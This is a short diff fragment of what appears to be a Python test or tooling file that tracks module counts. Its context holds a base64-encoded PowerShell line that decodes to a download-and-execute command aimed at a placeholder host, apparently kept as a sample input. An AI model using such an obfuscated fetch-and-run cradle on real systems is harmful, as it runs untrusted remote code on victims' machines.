@@ -7,7 +7,7 @@ from pathlib import Path
 
 CODED = "SUVYIChpd3IgaHR0cDovL2EuaW52YWxpZCk="
 SCRIPT = f"IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{CODED}')))\n"
-OURS = 206
+OURS = 205
 """Modules of ours, the worker's included: when it grows, see what is loaded that a script does not need."""
 HEAVY = {
     "asyncio", "bz2", "dataclasses", "html.entities", "importlib.resources", "inspect", "lzma", "random",
